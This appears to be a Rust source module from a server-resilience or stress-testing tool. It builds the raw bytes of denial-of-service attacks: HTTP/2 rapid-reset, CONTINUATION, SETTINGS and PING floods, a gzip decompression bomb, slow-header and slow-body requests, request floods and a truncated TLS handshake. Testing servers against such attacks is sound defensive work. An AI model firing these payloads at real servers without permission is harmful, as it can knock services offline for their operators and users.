//! The bytes of hostile peers. HTTP/2 frames: RFC 9113, section 4.1.

use super::attack::{Attack, Victim};
use base64::Engine as _;
use base64::prelude::BASE64_STANDARD;
use flate2::Compression;
use flate2::write::GzEncoder;
use std::io::Write as _;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const HEADERS: u8 = 1;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const CONTINUATION: u8 = 9;
const END_HEADERS: u8 = 4;
/// `:method POST`, `:scheme http`, `:path /`, `:authority a`, from the static table (RFC 7541).
const HEAD: &[u8] = &[0x83, 0x86, 0x84, 0x41, 1, b'a'];
/// A field `x: y` without an index.
const FIELD: &[u8] = &[0, 1, b'x', 1, b'y'];
/// Frames of one write.
const FRAMES: u32 = 100;
/// Bytes that a bomb inflates to.
const BOMB_BYTES: usize = 100 << 20;
/// Bytes of a body of a flood.
const FLOOD_BYTES: usize = 4096;
/// The length of a body that never comes as a whole.
const LONG: usize = 1_000_000;

/// The bytes of a peer: once, then again and again.
#[derive(Debug)]
pub(super) struct Bytes {
    pub(super) first: Vec<u8>,
    again: Again,
    /// Whether it waits between two writes.
    pub(super) is_slow: bool,
}

#[derive(Debug)]
enum Again {
    Nothing,
    Same(Vec<u8>),
    /// Requests of HTTP/2 that are taken back, each with a number of its own.
    Resets,
}

impl Bytes {
    pub(super) fn of(attack: Attack, victim: &Victim) -> Self {
        let quick = |first: Vec<u8>, again: Vec<u8>| Self { first, again: Again::Same(again), is_slow: false };
        let slow = |first: Vec<u8>, again: &[u8]| Self { first, again: Again::Same(again.to_vec()), is_slow: true };
        let silent = |first: &[u8]| Self { first: first.to_vec(), again: Again::Nothing, is_slow: false };
        match attack {
            Attack::Idle => silent(b""),
            // A record of a handshake, with a message that is longer than the bytes that follow.
            Attack::Handshakes => silent(&[0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]),
            Attack::Heads => slow(b"POST / HTTP/1.1\r\nHost: a\r\n".to_vec(), b"X: y\r\n"),
            Attack::Bodies => slow(head(victim, "", LONG), b"x"),
            Attack::Bombs => {
                let bomb = bomb();
                let request = [head(victim, "Content-Encoding: gzip\r\n", bomb.len()), bomb].concat();
                quick(request.clone(), request)
            }
            Attack::Flood => {
                let request = [head(victim, "", FLOOD_BYTES), vec![0xff; FLOOD_BYTES]].concat();
                quick(request.clone(), request)
            }
            Attack::Resets => Self { first: opening(), again: Again::Resets, is_slow: false },
            Attack::Settings => quick(opening(), frame(SETTINGS, 0, 0, b"").repeat(FRAMES as usize)),
            Attack::Pings => quick(opening(), frame(PING, 0, 0, b"12345678").repeat(FRAMES as usize)),
            Attack::Continuations => {
                let begun = [opening(), frame(HEADERS, 0, 1, HEAD)].concat();
                quick(begun, frame(CONTINUATION, 0, 1, FIELD).repeat(FRAMES as usize))
            }
        }
    }

    /// The bytes of the next write; `None` if there are none.
    pub(super) fn again(&self, number: u32) -> Option<Vec<u8>> {
        match &self.again {
            Again::Nothing => None,
            Again::Same(bytes) => Some(bytes.clone()),
            Again::Resets => {
                let first = number.wrapping_mul(FRAMES);
                let request = |at: u32| {
                    // Streams of clients have odd numbers.
                    let stream = first.wrapping_add(at).wrapping_mul(2) | 1;
                    // The code is CANCEL.
                    [frame(HEADERS, END_HEADERS, stream, HEAD), frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes())]
                        .concat()
                };
                Some((0..FRAMES).flat_map(request).collect())
            }
        }
    }
}

/// The beginning of a connection of HTTP/2.
fn opening() -> Vec<u8> {
    [PREFACE, &frame(SETTINGS, 0, 0, b"")].concat()
}

fn frame(kind: u8, flags: u8, stream: u32, content: &[u8]) -> Vec<u8> {
    let length = u32::try_from(content.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), content].concat()
}

/// The head of a valid request.
fn head(victim: &Victim, lines: &str, length: usize) -> Vec<u8> {
    let Victim { address, path, credentials: (user, password) } = victim;
    let pair = BASE64_STANDARD.encode(format!("{user}:{password}"));
    let head = format!(
        "POST {path} HTTP/1.1\r\nHost: {address}\r\nAuthorization: Basic {pair}\r\n{lines}Content-Length: {length}\r\n\r\n"
    );
    head.into_bytes()
}

/// Zeros, a thousandth of their size.
fn bomb() -> Vec<u8> {
    let mut encoder = GzEncoder::new(Vec::new(), Compression::best());
    let zeros = [0; 1 << 16];
    for _ in 0..BOMB_BYTES / zeros.len() {
        // Memory takes all bytes.
        encoder.write_all(&zeros).unwrap_or_default();
    }
    encoder.finish().unwrap_or_default()
}
